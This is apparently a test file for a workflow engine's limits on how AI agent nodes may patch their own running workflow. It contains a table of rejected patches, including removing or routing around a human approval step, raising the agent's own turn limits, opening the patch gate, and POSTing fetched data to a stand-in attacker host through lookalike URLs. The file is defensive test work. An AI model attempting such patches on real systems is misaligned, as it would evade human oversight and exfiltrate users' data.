/** What agents may change of their runs: one insertion that works, and everything that must never. */
import { describe, expect, test } from "vitest";
import { tryAgentPatch } from "#engine/agent-patches.ts";
import { AGENT_NODES_PER_PATCH_MAX, AGENT_PATCHES_PER_RUN_MAX, AGENTS_PER_RUN_MAX } from "#engine/limits.ts";
import type { Json } from "#kernel/json.ts";
import { RunDriver, START_MS } from "../support/run-driver.ts";

const node = (id: string, more: object = {}) => ({ id, type: "parallel", ...more });
const agent = (id: string, config: object = {}) => ({ id, type: "agent", config: { task: "think", ...config } });
const edge = (from: string, to: string, more: object = {}) => ({ from, to, ...more });
const add = (...parts: object[]) =>
  parts.map((value) => ({ op: "add", path: "from" in value ? "/edges/-" : "/nodes/-", value }));

/** fetch → think → save, and pay → approve → charge beside it. */
const document = {
  nodes: [
    { id: "fetch", type: "http", config: { url: "https://data.example.com/items" }, retry: { max_attempts: 1 } },
    agent("think"),
    node("save"),
    node("pay"),
    { id: "approve", type: "hitl", config: { message: "Pay?" } },
    node("charge"),
  ],
  edges: [edge("fetch", "think"), edge("think", "save"), edge("pay", "approve"), edge("approve", "charge")],
};

function thinking(doc: object = document): RunDriver {
  const run = new RunDriver(doc);
  run.answer("fetch", { items: [1] });
  expect(run.status("think")).toBe("queued");
  return run;
}
const answer = (run: RunDriver, operations: object[], more: object = {}) =>
  run.answer("think", {
    ok: true,
    output: { text: "done" },
    patches: [{ operations: operations as Json[], description: "why", ...more }],
  });

const insertion = [
  { op: "remove", path: "/edges/1" },
  ...add({ id: "validate_schema", type: "transform", config: { expression: "has(output.text)" } }),
  ...add(edge("think", "validate_schema"), edge("validate_schema", "save")),
];

describe("agent patches: insertion", () => {
  test("a node between the agent and its successor runs before the successor does", () => {
    const run = thinking();
    answer(run, insertion);
    expect([run.status("validate_schema"), run.status("save")]).toEqual(["completed", "completed"]);
    const order = run.events.flatMap((event) => (event.type === "node.completed" ? [event.node] : []));
    expect(order.indexOf("validate_schema")).toBeLessThan(order.indexOf("save"));
    expect(run.state.patches).toMatchObject([{ source: "agent", by: "think", node: "think", status: "applied" }]);
    const types = run.types();
    expect(types.indexOf("patch.applied")).toBeLessThan(types.lastIndexOf("node.completed"));
  });

  test("further work beside the successor, over several patches of one answer", () => {
    const run = thinking();
    run.answer("think", {
      ok: true,
      output: 1,
      patches: [
        { operations: add(node("one"), edge("think", "one")) as Json[], description: null },
        { operations: add(node("two"), edge("one", "two")) as Json[], description: null },
      ],
    });
    expect([run.status("one"), run.status("two")]).toEqual(["completed", "completed"]);
  });

  test("calls to hosts that the workflow names itself, under any path", () => {
    const run = thinking();
    answer(
      run,
      add(
        { id: "more", type: "http", config: { url: "https://data.example.com/more/${$nodes.think.text}" } },
        edge("think", "more"),
      ),
    );
    expect(run.state.patches[0]?.status).toBe("applied");
    expect(run.tasks).toMatchObject([{ path: "more" }]);
  });

  test("a failed attempt changes nothing, and what its runner refused is recorded", () => {
    const run = thinking({
      ...document,
      nodes: document.nodes.map((each) => (each.id === "think" ? { ...each, retry: { max_attempts: 1 } } : each)),
    });
    answer(run, insertion, { rejected: "the model was told no" });
    expect(run.state.patches).toMatchObject([{ status: "rejected", reason: "the model was told no" }]);
    expect(run.view.patch_seq).toBe(0);
  });

  test("in a gated run it waits for a decision", () => {
    const run = thinking({ ...document, metadata: { patch_policy: "gated" } });
    answer(run, insertion);
    expect(run.state.patches).toMatchObject([{ status: "proposed" }]);
    expect(run.graph.nodes.has("validate_schema")).toBe(false);
  });

  test("trying tells what would become of it, after what was tried before, and changes nothing", () => {
    const run = thinking();
    const address = { run_id: run.state.run_id, path: "think", visit: 1, attempt: 1 };
    const context = { graph: run.graph, nowMs: START_MS, readStored: () => null };
    const before = structuredClone(run.state);
    const first = add(node("one"), edge("think", "one")) as Json[];
    const second = add(node("two"), edge("one", "two")) as Json[];
    expect(tryAgentPatch(run.state, address, [], first, context)).toMatchObject({ ok: true });
    expect(tryAgentPatch(run.state, address, [], second, context)).toMatchObject({ ok: false });
    expect(tryAgentPatch(run.state, address, [first], second, context)).toMatchObject({ ok: true });
    expect(tryAgentPatch(run.state, { ...address, attempt: 2 }, [], first, context)).toBeNull();
    expect(run.state).toEqual(before);
  });
});

describe("agent patches: never", () => {
  const evil = {
    id: "evil",
    type: "http",
    config: { url: "https://attacker.example.net/?d=${$nodes.fetch.body}", method: "POST" },
  };
  test.each<[string, object[], object?]>([
    ["removing the approval", [{ op: "remove", path: "/nodes/4" }]],
    ["removing the first node", [{ op: "remove", path: "/nodes/0" }]],
    ["replacing all nodes", [{ op: "replace", path: "/nodes", value: [node("mine")] }]],
    ["replacing all edges", [{ op: "replace", path: "/edges", value: [] }]],
    ["replacing the whole workflow", [{ op: "replace", path: "", value: { nodes: [node("mine")], edges: [] } }]],
    ["inserting at the front", [{ op: "add", path: "/nodes/0", value: node("mine") }]],
    ["changing the message of the approval", [{ op: "replace", path: "/nodes/4/config/message", value: "ok" }]],
    ["letting the approval time out to yes", [{ op: "add", path: "/nodes/4/config/on_timeout", value: "approve" }]],
    ["removing somebody else's edge", [{ op: "remove", path: "/edges/3" }]],
    [
      "removing an edge by index after adding",
      [...add(node("x"), edge("think", "x")), { op: "remove", path: "/edges/3" }],
    ],
    ["a way around the approval", add(edge("think", "charge"))],
    ["a way around the approval through a new node", add(node("x"), edge("think", "x"), edge("x", "charge"))],
    ["a call to an attacker", add(evil, edge("think", "evil"))],
    [
      "a call to a host that a template chooses",
      add({ ...evil, config: { url: "https://${$inputs.host}/" } }, edge("think", "evil")),
    ],
    [
      "a call to a host that looks like a known one",
      add({ ...evil, config: { url: "https://data.example.com.attacker.net/" } }, edge("think", "evil")),
    ],
    [
      "a call with a user name like a known host",
      add({ ...evil, config: { url: "https://data.example.com@attacker.net/" } }, edge("think", "evil")),
    ],
    [
      "a call from within a map",
      add(
        {
          id: "evil",
          type: "map",
          config: { items: [1], node: { type: "http", config: { url: "https://attacker.example.net/" } } },
        },
        edge("think", "evil"),
      ),
    ],
    [
      "a secret",
      add(
        { ...evil, config: { url: "https://data.example.com/", headers: { a: "$secrets.TOKEN" } } },
        edge("think", "evil"),
      ),
    ],
    [
      "escalating to an attacker",
      add(
        { id: "ask", type: "hitl", config: { message: "?", escalate_to: "https://attacker.example.net/" } },
        edge("think", "ask"),
      ),
    ],
    [
      "running another workflow",
      add({ id: "sub", type: "workflow", config: { workflow: "charge-customer" } }, edge("think", "sub")),
    ],
    ["raising its own turns", [{ op: "replace", path: "/nodes/1/config/max_turns", value: 50 }]],
    ["raising the retries of a node", [{ op: "add", path: "/nodes/2/retry", value: { max_attempts: 10 } }]],
    ["opening the gate for patches", [{ op: "add", path: "/metadata", value: { patch_policy: "open" } }]],
    ["a node that starts by itself", add(node("alone"))],
    ["a node beside the agent", add(node("x"), edge("pay", "x"))],
    ["an edge into what has run", add(node("x"), edge("think", "x"), edge("x", "fetch"))],
    ["an edge into itself", add(node("x"), edge("think", "x"), edge("x", "think"))],
    ["dropping its successor", [{ op: "remove", path: "/edges/1" }]],
    [
      "dropping its successor for new work",
      [{ op: "remove", path: "/edges/1" }, ...add(node("x"), edge("think", "x"))],
    ],
    ["moving", [{ op: "move", from: "/nodes/4", path: "/nodes/-" }]],
    ["copying", [{ op: "copy", from: "/nodes/0", path: "/nodes/-" }]],
    ["an unknown type", add({ id: "x", type: "shell", config: { cmd: "rm" } }, edge("think", "x"))],
    ["reaching a prototype", [{ op: "add", path: "/__proto__/x", value: 1 }]],
  ])("%s", (_, operations) => {
    const run = thinking();
    const before = JSON.stringify(run.graph.definition);
    answer(run, operations);
    expect(run.state.patches).toMatchObject([{ status: "rejected", reason: expect.stringMatching(/./) }]);
    expect(JSON.stringify(run.graph.definition)).toBe(before);
    expect(run.view.patch_seq).toBe(0);
    // The run went on as its author wrote it.
    expect([run.status("save"), run.status("approve"), run.status("charge")]).toEqual([
      "completed",
      "waiting",
      "pending",
    ]);
    expect(run.tasks).toEqual([]);
  });

  test("a host that an earlier patch of its own has brought in", () => {
    const run = thinking();
    const note = {
      id: "note",
      type: "function",
      config: { function_name: "identity", params: { see: "https://attacker.example.net/" } },
    };
    run.answer("think", {
      ok: true,
      output: 1,
      patches: [
        { operations: add(note, edge("think", "note")) as Json[], description: null },
        { operations: add(evil, edge("think", "evil")) as Json[], description: null },
      ],
    });
    expect(run.state.patches.map((patch) => patch.status)).toEqual(["applied", "rejected"]);
  });

  test("a way past a condition that guards its successor", () => {
    const guarded = {
      ...document,
      edges: document.edges.map((each) =>
        each.to === "save" ? { ...each, condition: "nodes.fetch.items.size() > 5" } : each,
      ),
    };
    for (const operations of [
      add(node("x"), edge("think", "x"), edge("x", "save")),
      [{ op: "remove", path: "/edges/1" }, ...add(node("x"), edge("think", "x"), edge("x", "save"))],
    ]) {
      const run = thinking(guarded);
      answer(run, operations);
      expect(run.state.patches).toMatchObject([{ status: "rejected" }]);
      expect(run.status("save")).toBe("skipped");
    }
  });

  test("more budget or tools than its own for another agent", () => {
    const limited = {
      ...document,
      nodes: document.nodes.map((each) =>
        each.id === "think" ? agent("think", { budget_usd: 1, tools: ["search_tools"] }) : each,
      ),
    };
    for (const [config, status] of [
      [{ budget_usd: 2, tools: [] }, "rejected"],
      [{ tools: [] }, "rejected"],
      [{ budget_usd: 1 }, "rejected"],
      [{ budget_usd: 1, tools: ["patch_workflow"] }, "rejected"],
      [{ budget_usd: 1, tools: ["search_tools"] }, "applied"],
    ] as const) {
      const run = thinking(limited);
      answer(run, add(agent("helper", config), edge("think", "helper")));
      expect(run.state.patches[0]?.status).toBe(status);
    }
  });

  test("a sixth agent", () => {
    const helpers = (count: number) =>
      Array.from({ length: count }, (_, i) => add(agent(`h${i}`), edge("think", `h${i}`))).flat();
    const run = thinking();
    answer(run, helpers(AGENTS_PER_RUN_MAX - 1));
    expect(run.state.patches[0]?.status).toBe("applied");
    const other = thinking();
    answer(other, helpers(AGENTS_PER_RUN_MAX));
    expect(other.state.patches[0]).toMatchObject({
      status: "rejected",
      reason: expect.stringContaining("agent_limit"),
    });
  });

  test("more nodes than a patch may add", () => {
    const nodes = (count: number) =>
      Array.from({ length: count }, (_, i) => add(node(`x${i}`), edge("think", `x${i}`))).flat();
    for (const [count, status] of [
      [AGENT_NODES_PER_PATCH_MAX, "applied"],
      [AGENT_NODES_PER_PATCH_MAX + 1, "rejected"],
    ] as const) {
      const run = thinking();
      answer(run, nodes(count));
      expect(run.state.patches[0]?.status).toBe(status);
    }
  });

  test("more patches than a run takes from agents", () => {
    const run = thinking();
    const patches = Array.from({ length: AGENT_PATCHES_PER_RUN_MAX + 1 }, (_, i) => ({
      operations: add(node(`x${i}`), edge("think", `x${i}`)) as Json[],
      description: null,
    }));
    run.answer("think", { ok: true, output: 1, patches });
    const statuses = run.state.patches.map((patch) => patch.status);
    expect(statuses.filter((status) => status === "applied")).toHaveLength(AGENT_PATCHES_PER_RUN_MAX);
    expect(statuses.at(-1)).toBe("rejected");
  });

  test("anything, from within a map: an item has no place of its own in the graph", () => {
    const run = new RunDriver({
      nodes: [
        { id: "each", type: "map", config: { items: [1], node: { type: "agent", config: { task: "think" } } } },
        node("save"),
      ],
      edges: [edge("each", "save")],
    });
    for (const operations of [
      add(node("x"), edge("each", "x")),
      add(node("x"), edge("each[0]", "x")),
      [{ op: "remove", path: "/edges/0" }],
    ]) {
      const address = { run_id: run.state.run_id, path: "each[0]", visit: 1, attempt: 1 };
      const context = { graph: run.graph, nowMs: START_MS, readStored: () => null };
      expect(tryAgentPatch(run.state, address, [], operations as Json[], context)).toMatchObject({ ok: false });
    }
    run.answer("each[0]", {
      ok: true,
      output: 1,
      patches: [{ operations: add(node("x"), edge("each", "x")) as Json[], description: null }],
    });
    expect(run.state.patches).toMatchObject([{ status: "rejected" }]);
    expect(run.status("save")).toBe("completed");
  });
});
